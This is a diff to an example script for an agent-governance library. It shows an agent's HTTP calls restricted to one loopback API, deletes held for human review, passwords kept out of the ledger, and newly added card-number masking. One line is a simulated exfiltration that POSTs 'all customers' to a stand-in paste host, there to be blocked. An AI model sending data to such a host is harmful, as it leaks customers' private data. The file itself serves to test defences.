@@ -1,6 +1,7 @@
 // Outbound HTTP as governed tool calls, offline: an agent's HTTP client may reach one API (a loopback
 // server standing in for it) and nothing else; deleting needs a human; passwords never reach the
-// ledger; a halt cuts off a request in flight. The server counts what actually arrived.
+// ledger; a card number is masked before the request leaves; a halt cuts off a request in flight.
+// The server counts what actually arrived.
 // Run: npx tsx examples/governed-fetch.ts
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
@@ -8,9 +9,12 @@ import { Warden, WardenError } from "agent-warden";
 import { createGovernedFetch } from "agent-warden/fetch";
 
 const arrived: string[] = [];
+const queries: string[] = [];
 const api = createServer((request, response) => {
-  arrived.push(`${request.method} ${request.url}`);
-  if (request.url === "/v1/export") return; // a slow export: it answers only when cut off
+  const url = new URL(request.url ?? "/", "http://api");
+  arrived.push(`${request.method} ${url.pathname}`);
+  if (url.search) queries.push(decodeURIComponent(url.search));
+  if (url.pathname === "/v1/export") return; // a slow export: it answers only when cut off
   response.setHeader("content-type", "application/json");
   response.end(JSON.stringify({ ok: true }));
 });
@@ -33,7 +37,11 @@ const warden = new Warden({
     decide.reject({ reviewer: "bob", reason: "customers are archived, not deleted" });
   },
 });
-const http = createGovernedFetch(warden, { defaults: { baseURL: origin, retry: false } });
+const http = createGovernedFetch(warden, {
+  defaults: { baseURL: origin, retry: false },
+  // Card numbers never leave the process, wherever the agent puts them (body or query).
+  redactBeforeSend: { rules: [{ path: "$..card_number", action: "mask" }] },
+});
 
 async function attempt(label: string, request: () => Promise<unknown>): Promise<void> {
   try {
@@ -43,7 +51,7 @@ async function attempt(label: string, request: () => Promise<unknown>): Promise<
   }
 }
 
-await attempt("GET  /v1/customers/7", () => http("/v1/customers/7"));
+await attempt("GET  /v1/customers/7", () => http("/v1/customers/7", { query: { card_number: "4242 4242 4242 4242" } }));
 await attempt("POST /v1/login", () => http("/v1/login", { method: "POST", body: { user: "support", password: "s3cret-passw0rd" } }));
 await attempt("POST https://paste.example/upload", () => http("https://paste.example/upload", { method: "POST", body: { dump: "all customers" } }));
 await attempt("DELETE /v1/customers/7", () => http("/v1/customers/7", { method: "DELETE" }));
@@ -53,6 +61,7 @@ warden.halt({ reason: "data leak suspected", agentId: "support-agent" });
 await exporting;
 
 console.log(`\nthe API received: ${arrived.join(", ")}`);
+console.log(`with the query: ${queries.join(", ")}`);
 console.log("recorded:");
 for (const run of warden.listRuns().reverse()) {
   for (const call of (await warden.getRun(run.runId)).toolCalls) {
